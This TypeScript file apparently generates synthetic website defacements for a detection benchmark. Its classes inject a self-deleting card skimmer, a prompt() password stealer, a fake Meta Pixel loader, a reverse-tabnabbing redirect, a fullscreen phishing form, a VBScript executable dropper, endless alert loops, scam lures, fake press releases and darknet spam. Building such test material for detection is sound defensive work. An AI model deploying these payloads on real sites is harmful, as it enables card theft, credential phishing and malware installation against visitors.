/**
 * Fresh7 defacement classes: written after round 8, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers and loaders, file infectors, SEO spam, phishing and scam lures,
 * hacktivist and market-manipulation campaigns, and OWASP-style injection.
 * Each differs from every class in defacements.ts, fresh-defacements.ts,
 * fresh2-defacements.ts, fresh3-defacements.ts, fresh4-defacements.ts,
 * fresh5-defacements.ts and fresh6-defacements.ts (not a re-wording of one)
 * and varies its templates, languages and writing systems (Cyrillic,
 * Arabic, Tamil among them), domains, positions and sizes like them.
 * Several live only in a script (a canvas drawing, native dialogs, a
 * skimmer that deletes its own tag), and one touches many short text runs
 * at once. The writer had no internet access: every source below is
 * recalled from memory, with its outlet and an approximate date, and its
 * comment says so. Scored in the `fresh7` group, never tuned on.
 */
import { type ChangeClass, bottom, cap, head, say, scriptSpot, siteOr, textRuns, top, trimmed } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, jsUrl } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh7 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh7", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`
const brandName = (page: Page) => cap(page.site.brand.replace(/-/g, " "))
const bare = (host: string) => host.replace(/^www\./, "")
const evil = (rng: Rng, page: Page) => pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])
const onion = (rng: Rng) => `${Array.from({ length: 56 }, () => pick(rng, [..."abcdefghijklmnopqrstuvwxyz234567"])).join("")}.onion`

// OWASP "Reverse Tabnabbing" and Aza Raskin's tabnabbing note (2010), recalled from memory, as used on compromised sites in phishing runs reported by security blogs: when a visitor follows a link, the link opens in a new tab while the tab they came from quietly becomes a sign-in page on a look-alike host, which they find later and trust because it was "the site".
const reverseTabnab = fresh7("outbound click opens a new tab and turns the site's own tab into a look-alike sign-in", (page, rng) => {
  const phish = `https://${brandLookalike(rng, page.site.brand)}/${pick(rng, ["login", "signin", "account/session-expired", "auth/" + alnum(rng, 6)])}`
  const code = pick(rng, [
    `document.addEventListener("click",function(e){var a=e.target&&e.target.closest&&e.target.closest("a[href]");if(!a||a.host===location.host)return;e.preventDefault();window.open(a.href,"_blank");setTimeout(function(){location.replace(${jsUrl(rng, phish)})},${between(rng, 500, 4000)})},true);`,
    `[].forEach.call(document.links,function(a){a.target="_blank";a.addEventListener("click",function(){setTimeout(function(){location.href=${jsUrl(rng, phish)}+"?r="+encodeURIComponent(location.href)},${between(rng, 800, 6000)})})});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// FTC consumer alerts on refund and recovery scams (2022–2023) and the FBI IC3 public service announcement on fake "fund recovery" law firms (2024), recalled from memory: people who lost money to crypto or investment fraud are offered a service that "recovers" it for an upfront fee, often claiming ties to regulators or blockchain forensics.
const recoveryScam = fresh7("'we recover your lost crypto or scam losses' service advert", (page, rng) => {
  const firm = pick(rng, ["Chain Recovery Associates", "Asset Trace Legal", "CipherTrace Recovery Group", "Fund Reclaim Bureau", "Blockchain Forensic Partners", "Recuperación Cripto Legal"])
  const site = `https://${pick(rng, [`${slug(firm).split("-")[0]}-${pick(rng, ["recovery", "reclaim", "legal", "trace"])}.${pick(rng, ["com", "org", "net", "pro", "legal"])}`, randomDomain(rng)])}/`
  const pct = pick(rng, ["96%", "98.7%", "93%", "99%"])
  const lines = [
    `Lost money to a fake investment, crypto exchange or online trader? Our certified blockchain investigators have recovered over $${between(rng, 12, 480)} million for victims.`,
    `Success rate: ${pct}. We work with regulators and exchanges to freeze and return stolen funds. No recovery, no fee — only a small case registration fee.`,
    `Contact our case officer today: funds can only be reclaimed within ${between(rng, 30, 90)} days of the loss.`
  ]
  const wa = `https://wa.me/${pick(rng, ["1", "44", "61", "971"])}${digits(rng, 9)}`
  const block = pick(rng, [
    `<div class="${pick(rng, ["recovery", "promo", "sponsored"])}" style="border:2px solid #1565c0;padding:14px;margin:12px 0"><h3>${esc(firm)} — ${pick(rng, ["Get your money back", "Scammed? We can help", "Recover stolen crypto"])}</h3>${lines.map((l) => `<p>${esc(l)}</p>`).join("")}<p><a href="${site}">${pick(rng, ["Open a free case", "Start your claim", "Check eligibility"])}</a> · <a href="${wa}">WhatsApp</a></p></div>`,
    `<aside class="notice"><strong>${esc(firm)}:</strong> ${esc(lines[0]!)} <a href="${site}">${esc(site.replace(/^https:\/\//, ""))}</a></aside>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), block))
})

// Palo Alto Networks Unit 42, "Contagious Interview" (November 2023, with updates in 2024), recalled from memory: North Korean operators posing as recruiters asked developers to complete a coding test by cloning a repository and running npm install or the project, which installed BeaverTail and InvisibleFerret. Here the recruiting block on a hacked company page with the test instructions.
const contagiousInterview = fresh7("'developer job' coding test that has visitors clone and run a repository (Contagious Interview)", (page, rng) => {
  const repo = pick(rng, [`https://github.com/${pick(rng, ["dev", "hr", "team", "web3"])}-${alnum(rng, 6)}/${pick(rng, ["assessment", "coding-test", "defi-dashboard", "nft-marketplace", "interview-task"])}`, `https://bitbucket.org/${alnum(rng, 8)}/${pick(rng, ["tech-assessment", "frontend-test"])}`, `https://${randomDomain(rng)}/${pick(rng, ["test", "task"])}.zip`])
  const role = pick(rng, ["Senior Full-Stack Developer (React/Node)", "Blockchain Engineer", "Frontend Developer (Remote)", "Web3 Smart-Contract Developer"])
  const pay = pick(rng, ["$140k–$190k", "$95/hour", "€110,000 + tokens", "$160,000"])
  const steps = [`git clone ${repo}`, pick(rng, ["npm install && npm start", "npm i && node server.js", "yarn && yarn dev"]), "Fix the bug in the dashboard and send us a screenshot within 24 hours."]
  const block = `<section class="${pick(rng, ["careers", "jobs", "hiring"])}"><h2>${pick(rng, ["We're hiring", "Join our team", "Open position"])}: ${esc(role)}</h2><p>${esc(brandName(page))} ${pick(rng, ["is partnering with a fast-growing crypto exchange", "is building a new DeFi platform", "is expanding its engineering team"])}. ${esc(pay)}, fully remote.</p><p>${pick(rng, ["To apply, complete our short technical assessment:", "First step of the interview: run our test project locally."])}</p><ol>${steps.map((s) => `<li><code>${esc(s)}</code></li>`).join("")}</ol><p>${pick(rng, ["Questions? Message our recruiter on LinkedIn or Telegram", "Book your interview after the test"])}: <a href="https://t.me/${pick(rng, ["hr", "recruit", "talent"])}_${alnum(rng, 6)}">@${pick(rng, ["hr", "recruit", "talent"])}_${alnum(rng, 4)}</a></p></section>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block))
})

// Microsoft Security Intelligence (April 2021), recalled from memory: website contact forms used to send fake legal threats about copyright infringement with a link (on sites.google.com) to "evidence" that was IcedID; later "DMCA violation" lures with password-protected archives (Rhadamanthys, Check Point, 2024). Here a notice claiming the page's content was taken down, with the "evidence" download.
const copyrightLure = fresh7("fake copyright takedown notice with an 'evidence' download", (page, rng) => {
  const host = pick(rng, [`sites.google.com/view/${alnum(rng, 10)}`, `${randomDomain(rng)}/dmca`, `${pick(rng, ["storage.googleapis.com", "firebasestorage.googleapis.com", "dropbox.com/s"])}/${alnum(rng, 12)}`])
  const file = pick(rng, ["Evidence_Copyright_Infringement.zip", "DMCA_Notice_" + digits(rng, 6) + ".pdf.lnk", "Photos_used_without_license.iso", "Legal_claim_" + digits(rng, 5) + ".zip"])
  const pw = chance(rng, 0.5) ? ` Password: <b>${digits(rng, 4)}</b>` : ""
  const owner = pick(rng, ["Studio Lumière Photography", "Getty Images Legal Dept.", "Nordic Illustration AB", "Meridian Music Publishing", "J. Carter Photography"])
  const block = `<div class="${pick(rng, ["dmca-notice", "legal-notice", "notice"])}" style="border:2px solid #333;padding:16px;margin:12px 0;background:#fafafa"><h2>${pick(rng, ["Copyright infringement notice", "DMCA takedown notice", "Content removed following a legal complaint"])}</h2><p>${esc(`This page contains images owned by ${owner} used without a licence. The site owner and visitors who shared this content may be liable under copyright law (case ${upper(rng, 2)}-${digits(rng, 7)}).`)}</p><p>${pick(rng, ["Review the evidence and the list of infringing URLs", "Download the complaint and evidence", "See the full claim"])}: <a href="https://${host}/${file}">${esc(file)}</a>.${pw}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), block))
})

// Visa Payment Fraud Disruption, "Pipka" (November 2019), recalled from memory: a JavaScript skimmer found on at least sixteen shops that read the checkout fields, sent them out encoded, and then removed its own script tag from the page so it was gone when anyone inspected the DOM.
const pipka = fresh7("skimmer that removes its own script tag after running (Pipka)", (page, rng) => {
  const id = pick(rng, ["pipka", "jq-min", "gtm-" + alnum(rng, 4), alnum(rng, 6)])
  const gate = `https://${pick(rng, [libLookalike(rng), randomDomain(rng)])}/${pick(rng, ["gate.php", "c.php", "pixel/" + alnum(rng, 5), "api/collect"])}`
  const fields = pick(rng, [`["#cc_number","#cc_exp","#cc_cvv","#billing_name"]`, `["[name*=card]","[name*=cvv]","[name*=exp]","[name*=email]"]`, `["input[autocomplete^=cc]","#email","#telephone"]`])
  const code = `(function(){var F=${fields},U=${jsUrl(rng, gate)};function g(){var o={};F.forEach(function(s){var e=document.querySelector(s);if(e&&e.value)o[s]=e.value});return o}document.addEventListener("${pick(rng, ["click", "submit", "change"])}",function(){var o=g();if(Object.keys(o).length>1){var x=new XMLHttpRequest();x.open("POST",U);x.send(btoa(unescape(encodeURIComponent(JSON.stringify(o)))))}},true);var me=document.getElementById("${id}")||document.currentScript;if(me&&me.parentNode)me.parentNode.removeChild(me)})();`
  return splices(insert(pick(rng, [bottom(page), head(page), slotAt(page.spots, "bottom")]), `<script id="${id}">${chance(rng, 0.4) ? `eval(atob("${b64(code)}"))` : code}</script>`))
})

// Skimmers and loaders disguised as the Meta (Facebook) pixel, recalled from memory of Malwarebytes Labs and Sansec posts (about 2021–2022): the familiar fbq() base code, but the script it fetches comes from a look-alike of connect.facebook.net, or the pixel image's address carries the stolen data.
const fakeMetaPixel = fresh7("look-alike Meta Pixel snippet loading its script from another host", (page, rng) => {
  const src = pick(rng, [
    `https://connect.${pick(rng, ["facebook-cdn", "facebook-js", "fb-events", "facebookapi"])}.${pick(rng, ["net", "com", "org", "cc"])}/en_US/fbevents.js`,
    `https://connect.facebook.net.${bare(randomDomain(rng))}/en_US/fbevents.js`,
    `https://${libLookalike(rng)}/signals/config/${digits(rng, 15)}.js`
  ])
  const id = digits(rng, between(rng, 15, 16))
  const snippet = `!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','${src}');fbq('init','${id}');fbq('track','PageView');`
  const noscript = chance(rng, 0.5) ? `<noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=${id}&ev=PageView&noscript=1"></noscript>` : ""
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), `<!-- Meta Pixel Code --><script>${snippet}</script>${noscript}<!-- End Meta Pixel Code -->`))
})

const refundWords: Record<Lang, readonly [string, (a: string) => string, string, readonly [string, string, string, string], string]> = {
  en: ["You are entitled to a tax refund", (a) => `After the annual calculation of your fiscal activity, you are eligible to receive a refund of ${a}. Enter the card on which you want to receive it; refunds not claimed within 48 hours are cancelled.`, "Tax Refund Office", ["Full name", "Card number", "Expiry date", "Security code (CVV)"], "Claim my refund"],
  fr: ["Vous avez droit à un remboursement d'impôt", (a) => `Après le calcul annuel de votre activité fiscale, vous pouvez recevoir un remboursement de ${a}. Indiquez la carte sur laquelle le recevoir ; sans réponse sous 48 heures, le remboursement est annulé.`, "Service des remboursements", ["Nom complet", "Numéro de carte", "Date d'expiration", "Cryptogramme"], "Recevoir mon remboursement"],
  de: ["Sie haben Anspruch auf eine Steuerrückerstattung", (a) => `Nach der jährlichen Berechnung Ihrer steuerlichen Aktivität erhalten Sie eine Rückerstattung von ${a}. Geben Sie die Karte an, auf die sie überwiesen werden soll; nicht abgerufene Erstattungen verfallen nach 48 Stunden.`, "Erstattungsstelle", ["Vollständiger Name", "Kartennummer", "Ablaufdatum", "Prüfnummer (CVC)"], "Erstattung anfordern"],
  es: ["Tiene derecho a una devolución de impuestos", (a) => `Tras el cálculo anual de su actividad fiscal, puede recibir una devolución de ${a}. Indique la tarjeta en la que desea recibirla; las devoluciones no reclamadas en 48 horas se cancelan.`, "Oficina de devoluciones", ["Nombre completo", "Número de tarjeta", "Caducidad", "Código de seguridad (CVV)"], "Solicitar mi devolución"],
  nl: ["U hebt recht op een belastingteruggave", (a) => `Na de jaarlijkse berekening van uw fiscale gegevens ontvangt u een teruggave van ${a}. Vul de kaart in waarop u het bedrag wilt ontvangen; niet aangevraagde teruggaven vervallen na 48 uur.`, "Afdeling teruggaven", ["Volledige naam", "Kaartnummer", "Vervaldatum", "Beveiligingscode (CVC)"], "Teruggave aanvragen"],
  pt: ["Você tem direito a uma restituição de imposto", (a) => `Após o cálculo anual da sua atividade fiscal, você pode receber uma restituição de ${a}. Informe o cartão em que deseja recebê-la; restituições não solicitadas em 48 horas são canceladas.`, "Setor de restituições", ["Nome completo", "Número do cartão", "Validade", "Código de segurança (CVV)"], "Receber minha restituição"],
  it: ["Hai diritto a un rimborso fiscale", (a) => `Dopo il calcolo annuale della tua attività fiscale, puoi ricevere un rimborso di ${a}. Indica la carta su cui riceverlo; i rimborsi non richiesti entro 48 ore vengono annullati.`, "Ufficio rimborsi", ["Nome e cognome", "Numero della carta", "Scadenza", "Codice di sicurezza (CVV)"], "Richiedi il rimborso"]
}
const taxAgencies: Record<string, string> = { uk: "HMRC", us: "IRS", fr: "DGFiP", de: "Bundeszentralamt für Steuern", es: "Agencia Tributaria", nl: "Belastingdienst", au: "ATO", in: "Income Tax Department", br: "Receita Federal", it: "Agenzia delle Entrate" }

// Tax-refund phishing, recalled from memory of HMRC's repeated warnings about "tax rebate" e-mails and texts (2015–2024), the IRS Dirty Dozen lists and the Belastingdienst and Agenzia delle Entrate alerts: a refund is waiting and the victim enters the card details to "receive" it. Here the claim form, with the tax agency's name, on a hacked page.
const taxRefund = fresh7("'you are entitled to a tax refund' claim form asking for card details", (page, rng) => {
  const [h, p, office, labels, button] = siteOr(rng, page, refundWords)
  const agency = taxAgencies[page.site.locale.country] ?? "HMRC"
  const amount = page.site.locale.money(between(rng, 120, 980) + pick(rng, [0.42, 0.17, 0.5, 0.88]))
  const action = `https://${pick(rng, [`${slug(agency).slice(0, 12)}-${pick(rng, ["refund", "rebate", "online"])}.${pick(rng, ["com", "net", "info", "online", "site"])}`, randomDomain(rng)])}/${pick(rng, ["claim.php", "refund/submit", "r/" + alnum(rng, 6)])}`
  const names = ["name", "cc", "exp", "cvv"]
  const form = `<form method="post" action="${action}">${labels.map((l, i) => `<p><label>${esc(l)} <input name="${names[i]}"${i === 3 ? ` size="4" maxlength="4"` : ""}></label></p>`).join("")}<button type="submit">${esc(button)} (${esc(amount)})</button></form>`
  const block = `<section class="${pick(rng, ["refund", "notice", "tax-refund"])}" style="border:1px solid #0b0c0c;padding:16px;margin:12px 0"><p><strong>${esc(agency)}</strong> · ${esc(office)}</p><h2>${esc(h)}</h2><p>${esc(p(amount))}</p>${form}</section>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

const pressWords: Record<Lang, { readonly buy: (b: string, x: string, p: string) => string; readonly quit: (b: string, c: string) => string; readonly body: string; readonly tag: string }> = {
  en: { buy: (b, x, p) => `${b} agrees to be acquired by ${x} for ${p} per share in cash`, quit: (b, c) => `${b} chief executive ${c} resigns with immediate effect; accounts under review`, body: "The board will make a further announcement in due course. Trading in the company's shares may be suspended pending clarification.", tag: "Press release" },
  fr: { buy: (b, x, p) => `${b} accepte d'être racheté par ${x} pour ${p} par action en numéraire`, quit: (b, c) => `Le directeur général de ${b}, ${c}, démissionne avec effet immédiat ; les comptes sont en cours d'examen`, body: "Le conseil d'administration fera une nouvelle annonce en temps utile. La cotation pourrait être suspendue dans l'attente de précisions.", tag: "Communiqué de presse" },
  de: { buy: (b, x, p) => `${b} stimmt Übernahme durch ${x} für ${p} je Aktie in bar zu`, quit: (b, c) => `${b}-Vorstandschef ${c} tritt mit sofortiger Wirkung zurück; Abschlüsse werden geprüft`, body: "Der Aufsichtsrat wird zu gegebener Zeit weitere Informationen veröffentlichen. Der Handel mit der Aktie kann bis zur Klärung ausgesetzt werden.", tag: "Pressemitteilung" },
  es: { buy: (b, x, p) => `${b} acepta ser adquirida por ${x} por ${p} por acción en efectivo`, quit: (b, c) => `El consejero delegado de ${b}, ${c}, dimite con efecto inmediato; las cuentas, en revisión`, body: "El consejo hará un nuevo anuncio a su debido tiempo. La cotización de las acciones podría suspenderse hasta su aclaración.", tag: "Nota de prensa" },
  nl: { buy: (b, x, p) => `${b} stemt in met overname door ${x} voor ${p} per aandeel in contanten`, quit: (b, c) => `Topman ${c} van ${b} treedt per direct af; jaarrekening wordt onderzocht`, body: "De raad van bestuur doet te zijner tijd een nadere mededeling. De handel in het aandeel kan worden opgeschort in afwachting van duidelijkheid.", tag: "Persbericht" },
  pt: { buy: (b, x, p) => `${b} aceita ser adquirida pela ${x} por ${p} por ação em dinheiro`, quit: (b, c) => `CEO da ${b}, ${c}, renuncia com efeito imediato; contas sob revisão`, body: "O conselho fará um novo anúncio oportunamente. A negociação das ações pode ser suspensa até esclarecimento.", tag: "Comunicado à imprensa" },
  it: { buy: (b, x, p) => `${b} accetta di essere acquisita da ${x} per ${p} per azione in contanti`, quit: (b, c) => `L'amministratore delegato di ${b}, ${c}, si dimette con effetto immediato; conti sotto esame`, body: "Il consiglio darà ulteriori comunicazioni a tempo debito. Le negoziazioni del titolo potrebbero essere sospese in attesa di chiarimenti.", tag: "Comunicato stampa" }
}

// Fake press releases to move a share price, recalled from memory: the Emulex hoax (August 2000, a fake release on Internet Wire that cut the share price by more than half) and the SEC's 2015 case against traders who stole releases from newswire services. Here a release of the company's own on its own page: a takeover or a sudden resignation.
const fakePressRelease = fresh7("fake press release announcing a takeover or the chief executive's resignation", (page, rng) => {
  const w = say(page, pressWords)
  const b = brandName(page)
  const buyer = pick(rng, ["Berkshire Hathaway", "Blackstone", "Siemens AG", "Alphabet Inc.", "LVMH", "Prosus N.V.", "Vivendi"])
  const price = page.site.locale.money(between(rng, 12, 240) + pick(rng, [0, 0.5, 0.25]))
  const ceo = pick(rng, ["Michael Grant", "Anne-Sophie Leroy", "Stefan Hartmann", "Laura Méndez", "Pieter Claes", "Giovanni Rossi"])
  const headline = chance(rng, 0.5) ? w.buy(b, buyer, price) : w.quit(b, ceo)
  const date = page.site.locale.date(someDate(rng))
  const block = `<article class="${pick(rng, ["press-release", "news-item", "investor-news"])}"><p class="kicker">${esc(w.tag)} · ${esc(date)}</p><h2>${esc(headline)}</h2><p>${esc(w.body)}</p></article>`
  const out: Array<Splice> = [insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), block)]
  if (page.spots.title !== null && chance(rng, 0.3)) out.push(replace(page.spots.title, esc(headline)))
  return { splices: out }
})

// Defacement pages drawn with a "Matrix rain" canvas animation, recalled from memory of the mirrors on Zone-H and similar archives (2010s–2020s), where the crew's name and message are painted onto a full-window canvas by a script rather than written as page text.
const canvasDefacement = fresh7("defacer's message painted on a full-window canvas animation (matrix rain)", (page, rng) => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  const msg = pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text])()
  const id = pick(rng, ["c", "matrix", "q", alnum(rng, 5)])
  const ink = pick(rng, ["#0f0", "#0F0", "#00ff41", "#f00", "#0ff"])
  const code = `(function(){var c=document.getElementById("${id}"),x=c.getContext("2d");function z(){c.width=innerWidth;c.height=innerHeight}z();onresize=z;var s="${pick(rng, ["01", "アイウエオカキクケコ0123456789", "HACKED", "ابجدهوز01"])}",f=${between(rng, 12, 18)},d=[];for(var i=0;i<c.width/f;i++)d[i]=1;setInterval(function(){x.fillStyle="rgba(0,0,0,0.05)";x.fillRect(0,0,c.width,c.height);x.fillStyle="${ink}";x.font=f+"px monospace";for(var i=0;i<d.length;i++){x.fillText(s[Math.floor(Math.random()*s.length)],i*f,d[i]*f);if(d[i]*f>c.height&&Math.random()>0.975)d[i]=0;d[i]++}x.font="bold ${between(rng, 28, 56)}px monospace";x.fillStyle="#fff";x.textAlign="center";x.fillText(${JSON.stringify(msg)},c.width/2,c.height/2);x.font="18px monospace";x.fillText(${JSON.stringify(who)},c.width/2,c.height/2+40)},${between(rng, 33, 60)})})();`
  return splices(insert(pick(rng, [top(page), bottom(page)]), `<canvas id="${id}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:${zIndex(rng)};background:#000"></canvas>${wrapScript(rng, code)}`))
})

// XSS and script-injection defacements that trap visitors in endless native dialogs, recalled from memory of defacement archives and XSS write-ups (a `while(1) alert(...)` loop as the "payload" of many reflected and stored XSS defacements reported on Open Bug Bounty and XSSed, 2008–2020): the page becomes unusable and the only thing shown is the defacer's line, again and again.
const alertLoop = fresh7("endless alert() dialogs carrying the defacer's message", (page, rng) => {
  const who = nick(rng)
  const msg = JSON.stringify(pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => `${signature(rng, who).text} — ${political(rng).text}`])())
  const code = pick(rng, [
    `while(1){alert(${msg})}`,
    `for(;;)alert(${msg});`,
    `setInterval(function(){alert(${msg})},${between(rng, 50, 1500)});`,
    `onbeforeunload=function(){return ${msg}};for(var i=0;i<${between(rng, 20, 500)};i++)confirm(${msg});`
  ])
  return splices(insert(pick(rng, [head(page), top(page), bottom(page), slotAt(page.spots, "middle")]), wrapScript(rng, code)))
})

// Ramnit and other file infectors, recalled from memory of Symantec and Microsoft write-ups (2010–2012, and Sucuri posts on hosting accounts infected from an admin's PC): the virus appended a VBScript block after the closing html tag of every .htm/.html file it found, which in Internet Explorer wrote an embedded executable (hex string, "MZ" header) to disk as svchost.exe and ran it.
const vbsDropper = fresh7("VBScript dropper appended after the closing html tag by a file-infecting virus (Ramnit)", (page, rng) => {
  const data = "4D5A90000300000004000000FFFF0000B800000000000000400000000000000000000000" + hex(rng, between(rng, 600, 3000)).toUpperCase()
  const file = pick(rng, ["svchost.exe", "svchost.com", "explorer.exe", "winlogon.exe"])
  const vbs = `<SCRIPT Language=VBScript><!--\nDropFileName = "${file}"\nWriteData = "${data}"\nSet FSO = CreateObject("Scripting.FileSystemObject")\nDropPath = FSO.GetSpecialFolder(2) & "\\" & DropFileName\nIf FSO.FileExists(DropPath)=False Then\nSet FileObj = FSO.CreateTextFile(DropPath, True)\nFor i = 1 To Len(WriteData) Step 2\nFileObj.Write Chr(CLng("&H" & Mid(WriteData,i,2)))\nNext\nFileObj.Close\nEnd If\nSet WSHshell = CreateObject("WScript.Shell")\nWSHshell.Run DropPath, 0\n//--></SCRIPT>`
  return splices(insert(pick(rng, [page.html.length, page.html.length, bottom(page)]), vbs))
})

const darknetKeys = ["кракен сайт", "кракен даркнет", "kraken ссылка", "мега даркнет маркет", "блэкспрут зеркало", "blacksprut ссылка", "омг омг онион", "гидра сайт зеркало", "купить закладку", "кракен вход"]

// Russian darknet-market spam, recalled from memory of Google Search Central community threads and hosting-provider blog posts (about 2022–2024): after Hydra's takedown, hacked sites everywhere carried Cyrillic keyword blocks and links advertising Kraken, Mega, Blacksprut and OMG "mirrors", with .onion addresses and clearnet gateway domains.
const darknetSpam = fresh7("Cyrillic darknet-market spam with .onion mirrors (кракен, мега, блэкспрут)", (page, rng) => {
  const keys = sample(rng, darknetKeys, between(rng, 3, 7))
  const gw = () => `https://${pick(rng, ["kraken", "krmp", "mega", "bs", "omg"])}${between(rng, 2, 40)}.${pick(rng, ["at", "cc", "to", "gl", "ws", "sh"])}/`
  const links = keys.map((k) => `<a href="${gw()}">${esc(k)}</a>`)
  const hideIt = chance(rng, 0.4)
  const block = pick(rng, [
    `<div class="${pick(rng, ["seo", "tags", "links"])}"${hideIt ? ` style="position:absolute;left:-${between(rng, 3000, 9000)}px"` : ""}><p>${links.join(" | ")}</p><p>${esc(`${cap(keys[0]!)} — актуальная ссылка на сегодня: ${onion(rng)}. Рабочее зеркало и вход без VPN.`)}</p></div>`,
    `<ul${hideIt ? ` style="font-size:1px;color:transparent"` : ""}>${links.map((l) => `<li>${l}</li>`).join("")}<li>${onion(rng)}</li></ul>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), block))
})

// BeEF's "Create Prompt Dialog" and "Pretty Theft" modules and the XSS proof-of-concepts on OWASP's pages, recalled from memory: an injected script opens the browser's own prompt() asking for the account password ("your session has expired"), so the request looks like it comes from the site or the browser, and sends the answer away.
const promptPhish = fresh7("native prompt() dialog asking for the account password", (page, rng) => {
  const sink = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["p", "l.gif", "c.php", "log"])}`
  const ask = pick(rng, [
    `Your session on ${page.site.host} has expired. Please re-enter your password to continue:`,
    `Security check: confirm your ${brandName(page)} account password`,
    `${brandName(page)} – Password required to view this page`
  ])
  const code = `setTimeout(function(){var p=prompt(${JSON.stringify(ask)},"");if(p){new Image().src=${jsUrl(rng, sink)}+"?h="+location.host+"&p="+encodeURIComponent(p)}},${between(rng, 1000, 15000)});`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// "Using the HTML5 Fullscreen API for Phishing Attacks", Feross Aboukhadijeh (2012), recalled from memory: a click on an innocent link puts the page into full screen and draws a fake browser window (tabs, address bar with the bank's address, padlock) around a copy of the bank's sign-in page.
const fullscreenPhish = fresh7("first click goes full screen and draws a fake browser with another site's sign-in", (page, rng) => {
  const bank = pick(rng, ["www.paypal.com", "online.citi.com", "www.bankofamerica.com", "login.microsoftonline.com", "accounts.google.com", `www.${page.site.domain}`])
  const post = `https://${evil(rng, page)}/${pick(rng, ["fs.php", "login", "auth/" + alnum(rng, 5)])}`
  const id = pick(rng, ["fs", "_f", alnum(rng, 5)])
  const ui = `<div id="${id}" style="display:none;position:fixed;inset:0;z-index:${zIndex(rng)};background:#dee1e6;font-family:Arial,sans-serif"><div style="height:34px;background:#dee1e6;padding:6px 10px"><span style="background:#fff;border-radius:8px 8px 0 0;padding:6px 14px">Sign in</span></div><div style="background:#fff;padding:6px 10px;border-bottom:1px solid #ccc">🔒 <span style="background:#f1f3f4;border-radius:14px;padding:4px 14px">https://${bank}/signin</span></div><div style="background:#fff;max-width:380px;margin:60px auto;padding:30px"><h2>Sign in</h2><form method="post" action="${post}"><p><input name="u" placeholder="Email"></p><p><input name="p" type="password" placeholder="Password"></p><button>Sign in</button></form></div></div>`
  const code = `document.addEventListener("click",function(e){e.preventDefault();var d=document.documentElement,r=d.requestFullscreen||d.webkitRequestFullscreen;if(r)r.call(d);document.getElementById("${id}").style.display="block"},{once:true,capture:true});`
  return splices(insert(pick(rng, [bottom(page), top(page)]), ui + wrapScript(rng, code)))
})

const kycWords: Record<Lang, readonly [string, string, readonly [string, string, string], string]> = {
  en: ["Identity verification required", "New regulations require us to verify every customer. Upload a photo of both sides of your ID card or passport and a selfie holding it, or your account will be restricted.", ["ID card – front", "ID card – back", "Selfie holding your ID"], "Submit for verification"],
  fr: ["Vérification d'identité obligatoire", "La nouvelle réglementation nous oblige à vérifier chaque client. Envoyez une photo recto verso de votre pièce d'identité et un selfie en la tenant, faute de quoi votre compte sera restreint.", ["Pièce d'identité – recto", "Pièce d'identité – verso", "Selfie avec votre pièce"], "Envoyer pour vérification"],
  de: ["Identitätsprüfung erforderlich", "Neue Vorschriften verpflichten uns, jeden Kunden zu verifizieren. Laden Sie ein Foto beider Seiten Ihres Ausweises und ein Selfie mit dem Ausweis hoch, sonst wird Ihr Konto eingeschränkt.", ["Ausweis – Vorderseite", "Ausweis – Rückseite", "Selfie mit Ausweis"], "Zur Prüfung senden"],
  es: ["Verificación de identidad obligatoria", "La nueva normativa nos obliga a verificar a cada cliente. Suba una foto de ambas caras de su DNI o pasaporte y un selfi sosteniéndolo, o su cuenta quedará restringida.", ["DNI – anverso", "DNI – reverso", "Selfi con su documento"], "Enviar para verificación"],
  nl: ["Identiteitscontrole vereist", "Nieuwe regels verplichten ons elke klant te controleren. Upload een foto van beide kanten van uw ID-kaart of paspoort en een selfie met het document, anders wordt uw account beperkt.", ["ID-kaart – voorkant", "ID-kaart – achterkant", "Selfie met uw ID"], "Verzenden ter controle"],
  pt: ["Verificação de identidade obrigatória", "Novas regras exigem a verificação de todos os clientes. Envie uma foto da frente e do verso do seu documento e uma selfie segurando-o, ou sua conta será restringida.", ["Documento – frente", "Documento – verso", "Selfie com o documento"], "Enviar para verificação"],
  it: ["Verifica dell'identità obbligatoria", "Le nuove norme ci obbligano a verificare ogni cliente. Carica una foto fronte e retro della carta d'identità o del passaporto e un selfie con il documento, altrimenti il conto sarà limitato.", ["Documento – fronte", "Documento – retro", "Selfie con il documento"], "Invia per la verifica"]
}

